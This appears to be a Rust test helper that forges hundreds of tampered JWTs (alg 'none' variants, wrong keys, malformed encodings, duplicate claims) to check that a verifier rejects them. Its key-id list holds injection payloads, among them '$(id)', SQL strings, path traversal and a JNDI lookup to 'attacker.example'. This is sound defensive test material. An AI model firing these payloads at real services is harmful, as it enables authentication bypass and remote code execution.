//! Hundreds of tokens with one thing wrong. They are signed with the service's own secret unless the signature is wrong.

use base64::Engine;
use base64::prelude::BASE64_URL_SAFE_NO_PAD as BASE64;
use hmac::{Hmac, KeyInit, Mac};
use serde_json::{Value, json};
use sha2::{Sha256, Sha384, Sha512};

/// All named algorithms, and wrong spellings of the only one that is accepted.
const ALGORITHMS: [&str; 29] = [
    "none", "None", "NONE", "nOnE", "", "hs256", "Hs256", "HS256 ", " HS256", "HS256\0", "HS-256", "HS384",
    "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512",
    "EdDSA", "Ed25519", "HMAC", "A256KW", "dir", "HS1",
];

/// Key ids of attackers: those of other tokens and keys, paths, URLs, and parts of queries.
const KEY_NAMES: [&str; 14] = [
    "",
    "0",
    "unknown",
    "*",
    "\0",
    "/dev/null",
    "../../../../../../dev/null",
    "file:///etc/hostname",
    "https://attacker.example/key",
    "' OR '1'='1",
    "x' UNION SELECT '' -- ",
    "|| true",
    "$(id)",
    "${jndi:ldap://attacker.example/a}",
];

/// Makes bad tokens from a good one.
#[derive(Clone)]
pub struct Forge {
    secret: Vec<u8>,
    header: Value,
    claims: Value,
    good: String,
}

impl Forge {
    /// Starts from a token that `secret` has signed.
    pub fn after(good: &str, secret: &str) -> Self {
        let part = |n: usize| {
            serde_json::from_slice(&BASE64.decode(good.split('.').nth(n).unwrap()).unwrap()).unwrap()
        };
        let forge = Self { secret: secret.into(), header: part(0), claims: part(1), good: good.to_owned() };
        assert!(forge.sign(&forge.header, &forge.claims).len() == good.len(), "the secret is another");
        forge
    }

    fn sign(&self, header: &Value, claims: &Value) -> String {
        self.sign_bytes(header.to_string().as_bytes(), claims.to_string().as_bytes())
    }

    fn sign_bytes(&self, header: &[u8], claims: &[u8]) -> String {
        self.seal(&format!("{}.{}", BASE64.encode(header), BASE64.encode(claims)))
    }

    /// Appends a genuine MAC to any header and claims.
    fn seal(&self, message: &str) -> String {
        format!("{message}.{}", BASE64.encode(mac::<Hmac<Sha256>>(&self.secret, message)))
    }

    /// The same claims, signed by us: shows that refused tokens are not refused for their signature.
    pub fn control(&self) -> String {
        self.sign(&self.header, &self.claims)
    }

    /// Every bad token, with its fault in words.
    pub fn all(&self) -> Vec<(String, String)> {
        let mut all = self.headers();
        all.extend(self.all_claims());
        all.extend(self.forms());
        all.extend(self.keys());
        all.extend(self.encodings());
        all
    }

    /// Unusual good tokens, which must be accepted.
    pub fn unusual(&self) -> Vec<(String, String)> {
        let iat = self.claims["iat"].as_u64().unwrap();
        let mut claims: Vec<_> = [
            ("issued five seconds ahead", "iat", json!(iat + 5)),
            ("expires next second", "exp", json!(iat + 1)),
            ("good for a day", "exp", json!(iat + 86_400)),
            ("good since before", "nbf", json!(iat - 60)),
            ("good in five seconds", "nbf", json!(iat + 5)),
            ("a claim of somebody else's", "is_staff", json!(true)),
            ("a deep claim", "deep", json!([[[[{ "exp": 0 }]]]])),
        ]
        .map(|(name, claim, value)| {
            (name.to_owned(), self.sign(&self.header, &with(&self.claims, claim, value)))
        })
        .into();
        let spaced = format!(" {}\n", self.claims);
        claims.push((
            "white space".to_owned(),
            self.sign_bytes(self.header.to_string().as_bytes(), spaced.as_bytes()),
        ));
        let escaped = self.header.to_string().replace("alg", r"\u0061lg");
        claims.push((
            "escapes".to_owned(),
            self.sign_bytes(escaped.as_bytes(), self.claims.to_string().as_bytes()),
        ));
        // HMAC fills a key up with zeroes (RFC 2104 section 2), so the two are one key.
        let twin = Self { secret: [&self.secret[..], b"\0"].concat(), ..self.clone() };
        claims.push(("the secret and a NUL".to_owned(), twin.control()));
        claims
    }

    fn headers(&self) -> Vec<(String, String)> {
        let mut headers = changes(&self.header);
        for alg in ALGORITHMS {
            headers.push((format!("alg {alg}"), with(&self.header, "alg", alg)));
        }
        for typ in [
            "jwt",
            "Jwt",
            "JWT ",
            "at+jwt",
            "reset+jwt",
            "logout+jwt",
            "JWS",
            "JWE",
            "JOSE",
            "application/jwt",
            "",
        ] {
            headers.push((format!("typ {typ}"), with(&self.header, "typ", typ)));
        }
        for kid in KEY_NAMES {
            headers.push((format!("kid {kid}"), with(&self.header, "kid", kid)));
        }
        for extra in [
            "crit", "jku", "jwk", "x5u", "x5c", "x5t", "x5t#S256", "b64", "zip", "cty", "enc", "nonce", "Alg",
        ] {
            for value in [
                json!([]),
                json!(["exp"]),
                json!("https://attacker.example"),
                json!(false),
                json!({}),
                json!(null),
            ] {
                headers.push((format!("{extra} {value}"), with(&self.header, extra, value)));
            }
        }
        let known = with(&with(&self.header, "b64", true), "crit", json!(["b64"]));
        headers.push(("a crit that names a member".to_owned(), known));
        let values: Vec<_> = self.header.as_object().unwrap().values().cloned().collect();
        headers.push(("header as an array".to_owned(), values.into()));
        headers.into_iter().map(|(name, header)| (name, self.sign(&header, &self.claims))).collect()
    }

    fn all_claims(&self) -> Vec<(String, String)> {
        let iat = self.claims["iat"].as_u64().unwrap();
        let mut claims = changes(&self.claims);
        for (claim, value) in [
            ("iss", json!("another")),
            ("iss", json!([self.claims["iss"]])),
            ("aud", json!("another")),
            ("aud", json!([self.claims["aud"]])),
            ("sub", json!("7d9f4a3c-1b2e-4c5d-8e6f-9a0b1c2d3e4f")),
            ("user_id", json!("7d9f4a3c-1b2e-4c5d-8e6f-9a0b1c2d3e4f")),
            ("username", json!("nobody")),
            ("username", json!("")),
            ("ver", json!(1)),
            ("ver", json!(-1)),
            ("ver", json!(4_294_967_296_u64)),
            ("exp", json!(iat)),
            ("exp", json!(iat - 1)),
            ("exp", json!(iat - 59)),
            ("exp", json!(iat - 61)),
            ("exp", json!(iat + 86_401)),
            ("exp", json!(u64::MAX)),
            ("exp", json!(0)),
            ("iat", json!(iat + 6)),
            ("nbf", json!(iat + 6)),
            ("nbf", json!(null)),
            ("nbf", json!("0")),
            ("jti", json!("")),
        ] {
            claims.push((format!("{claim} {value}"), with(&self.claims, claim, value)));
        }
        let values: Vec<_> = self.claims.as_object().unwrap().values().cloned().collect();
        claims.push(("array".to_owned(), values.into()));
        claims.push(("string".to_owned(), "x".into()));
        claims.into_iter().map(|(name, claims)| (name, self.sign(&self.header, &claims))).collect()
    }

    /// MACs by another key, by another algorithm, or of another text.
    fn keys(&self) -> Vec<(String, String)> {
        let (header, claims) = (&self.header, &self.claims);
        let text = |header: &Value| {
            format!("{}.{}", BASE64.encode(header.to_string()), BASE64.encode(claims.to_string()))
        };
        let ours = text(header);
        let forged = |message: &str, tag: &[u8]| format!("{message}.{}", BASE64.encode(tag));
        let by = |secret: &[u8]| forged(&ours, &mac::<Hmac<Sha256>>(secret, &ours));
        let named = |alg: &str| text(&with(header, "alg", alg));
        let hs384 = |message: &str| forged(message, &mac::<Hmac<Sha384>>(&self.secret, message));
        let hs512 = |message: &str| mac::<Hmac<Sha512>>(&self.secret, message);
        let own_key = with(
            header,
            "jwk",
            json!({ "kty": "oct", "k": BASE64.encode("attacker"), "kid": header["kid"] }),
        );
        let mut all: Vec<_> =
            ALGORITHMS.map(|alg| (format!("alg {alg} without a MAC"), format!("{}.", named(alg)))).into();
        all.extend(
            [
                ("by no secret", by(b"")),
                ("by a NUL", by(b"\0")),
                ("by the kid", by(header["kid"].as_str().unwrap().as_bytes())),
                ("by the issuer", by(claims["iss"].as_str().unwrap().as_bytes())),
                ("by most of the secret", by(&self.secret[..self.secret.len() - 1])),
                ("by the secret and a line break", by(&[&self.secret[..], b"\n"].concat())),
                ("by the secret, encoded", by(BASE64.encode(&self.secret).as_bytes())),
                (
                    "by the jwk in the header",
                    forged(&text(&own_key), &mac::<Hmac<Sha256>>(b"attacker", &text(&own_key))),
                ),
                ("HS384", hs384(&named("HS384"))),
                ("HS384 under our name", hs384(&ours)),
                ("HS512", forged(&named("HS512"), &hs512(&named("HS512")))),
                ("HS512 under our name", forged(&ours, &hs512(&ours))),
                ("HS512 cut to our length", forged(&ours, &hs512(&ours)[..32])),
                ("of another text", forged(&ours, &mac::<Hmac<Sha256>>(&self.secret, "another"))),
                (
                    "over the JSON",
                    forged(&ours, &mac::<Hmac<Sha256>>(&self.secret, &format!("{header}.{claims}"))),
                ),
                ("of zeroes", forged(&ours, &[0; 32])),
            ]
            .map(|(name, token)| (format!("signed {name}"), token)),
        );
        all
    }

    /// Other spellings of the same bytes, and text in other encodings than UTF-8.
    fn encodings(&self) -> Vec<(String, String)> {
        let (text, _) = self.good.rsplit_once('.').unwrap();
        let dot = text.find('.').unwrap();
        let mut all = Vec::new();
        // A comma, a space and a tab are no part of any token: `http_and_every_kind_of_api_agree_on_every_header`.
        for c in "=\n\r\0+/?%;:\"'\\~\u{7F}é\u{A0}\u{200B}\u{FEFF}．。💥".chars() {
            for index in [1, dot, dot + 1, text.len(), self.good.len()] {
                let put = |text: &str| format!("{}{c}{}", &text[..index], &text[index..]);
                all.push((format!("{c:?} at {index}"), put(&self.good)));
                if index <= text.len() {
                    all.push((format!("{c:?} at {index}, signed"), self.seal(&put(text))));
                }
            }
        }
        let last = self.good.len() - 1;
        for other in loosened(self.good.as_bytes()[last]) {
            all.push((format!("unused bits: {other}"), format!("{}{other}", &self.good[..last])));
        }
        let (header, claims) = (self.header.to_string(), self.claims.to_string());
        let utf_16 =
            |text: &str, to: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(to).collect::<Vec<_>>();
        for (name, to) in
            [("UTF-16LE", u16::to_le_bytes as fn(u16) -> [u8; 2]), ("UTF-16BE", u16::to_be_bytes)]
        {
            all.push((format!("header in {name}"), self.sign_bytes(&utf_16(&header, to), claims.as_bytes())));
            all.push((format!("claims in {name}"), self.sign_bytes(header.as_bytes(), &utf_16(&claims, to))));
        }
        let mark = |text: &str| format!("\u{FEFF}{text}");
        all.push((
            "a mark before the header".to_owned(),
            self.sign_bytes(mark(&header).as_bytes(), claims.as_bytes()),
        ));
        all.push((
            "a mark before the claims".to_owned(),
            self.sign_bytes(header.as_bytes(), mark(&claims).as_bytes()),
        ));
        let latin_1 = claims.replace("serverless", "serverl\u{1}ss").into_bytes();
        let latin_1: Vec<_> = latin_1.into_iter().map(|byte| if byte == 1 { 0xE9 } else { byte }).collect();
        all.push(("claims in Latin-1".to_owned(), self.sign_bytes(header.as_bytes(), &latin_1)));
        all
    }

    fn forms(&self) -> Vec<(String, String)> {
        let parts: Vec<_> = self.good.split('.').collect();
        let [header, claims, signature] = parts[..] else { panic!("{}", self.good) };
        let (header_text, claims_text) = (self.header.to_string(), self.claims.to_string());
        let claiming = |text: &str| self.sign_bytes(header_text.as_bytes(), text.as_bytes());
        let under = |text: &str| self.sign_bytes(text.as_bytes(), claims_text.as_bytes());
        let twice = |text: &str, member: &str| format!("{{{member},{}", &text[1..]);
        [
            ("no signature", format!("{header}.{claims}.")),
            ("one part", header.to_owned()),
            ("two parts", format!("{header}.{claims}")),
            ("four parts", format!("{}.{signature}", self.good)),
            ("four parts, the last empty", format!("{}.", self.good)),
            ("four parts, the first empty", format!(".{}", self.good)),
            ("five parts", format!("{}.x.y", self.good)),
            ("no header", format!(".{claims}.{signature}")),
            ("no claims", format!("{header}..{signature}")),
            ("no claims, signed", self.seal(&format!("{header}."))),
            ("dots", "..".to_owned()),
            ("short signature", self.good[..self.good.len() - 1].to_owned()),
            ("long signature", format!("{}A", self.good)),
            ("signature twice", format!("{}{signature}", self.good)),
            ("signature of nothing", format!("{header}.{claims}.AAAA")),
            ("standard alphabet", format!("{header}.{claims}.{}", "+/".repeat(21))),
            (
                "changed claims",
                format!("{header}.{}.{signature}", BASE64.encode(claims_text.replace("alice", "alicf"))),
            ),
            ("duplicate claim", claiming(&twice(&claims_text, r#""exp":9999999999"#))),
            ("duplicate claim, escaped", claiming(&twice(&claims_text, r#""\u0065xp":9999999999"#))),
            ("duplicate alg", under(&twice(&header_text, r#""alg":"none""#))),
            ("duplicate alg, the same", under(&twice(&header_text, r#""alg":"HS256""#))),
            ("duplicate alg, escaped", under(&twice(&header_text, r#""\u0061lg":"none""#))),
            ("header no JSON", under("{")),
            ("header of two objects", under(&header_text.repeat(2))),
            ("claims no JSON", claiming("sub=alice")),
            ("claims cut short", claiming(&claims_text[..claims_text.len() - 1])),
            ("claims of two objects", claiming(&claims_text.repeat(2))),
            ("claims in an array", claiming(&format!("[{claims_text}]"))),
            ("claims in a string", claiming(&json!(claims_text).to_string())),
            ("claims nested", claiming(&"[".repeat(5_000))),
            ("claims null", claiming("null")),
            ("NUL after the claims", claiming(&format!("{claims_text}\0"))),
            ("half a surrogate pair", claiming(&claims_text.replace("Alice", r"Alice\ud800"))),
            ("exp as a float", claiming(&claims_text.replace("\"exp\":", "\"exp\":0."))),
            ("exp beyond all numbers", claiming(&claims_text.replace("\"exp\":", "\"exp\":1e400,\"x\":"))),
            ("long", format!("{header}.{}.{signature}", "A".repeat(9_000))),
            ("10 KB, signed", claiming(&format!("{claims_text}{}", " ".repeat(9_000)))),
            (
                "JSON serialisation",
                json!({ "protected": header, "payload": claims, "signature": signature }).to_string(),
            ),
        ]
        .map(|(name, token)| (name.to_owned(), token))
        .into()
    }
}

fn mac<M: Mac + KeyInit>(secret: &[u8], message: &str) -> Vec<u8> {
    <M as KeyInit>::new_from_slice(secret).unwrap().chain_update(message).finalize().into_bytes().to_vec()
}

/// The other three characters that decode to the same last byte of a MAC.
fn loosened(last: u8) -> impl Iterator<Item = char> {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let index = ALPHABET.iter().position(|&c| c == last).unwrap();
    (1..4).map(move |bits| char::from(ALPHABET[index / 4 * 4 + (index + bits) % 4]))
}

fn with(object: &Value, member: &str, value: impl Into<Value>) -> Value {
    let mut object = object.clone();
    object[member] = value.into();
    object
}

/// Every member missing, and of every wrong type.
fn changes(object: &Value) -> Vec<(String, Value)> {
    let mut all = Vec::new();
    for (member, value) in object.as_object().unwrap() {
        let mut without = object.clone();
        without.as_object_mut().unwrap().remove(member);
        all.push((format!("no {member}"), without));
        let text = value.as_u64().map_or(json!(7), |number| json!(number.to_string()));
        let float =
            value.as_u64().map_or(json!(1.5), |number| json!(format!("{number}.5").parse::<f64>().unwrap()));
        for wrong in [Value::Null, json!(true), json!([value]), json!({ "a": value }), text, float] {
            all.push((format!("{member} {wrong}"), with(object, member, wrong)));
        }
    }
    all
}
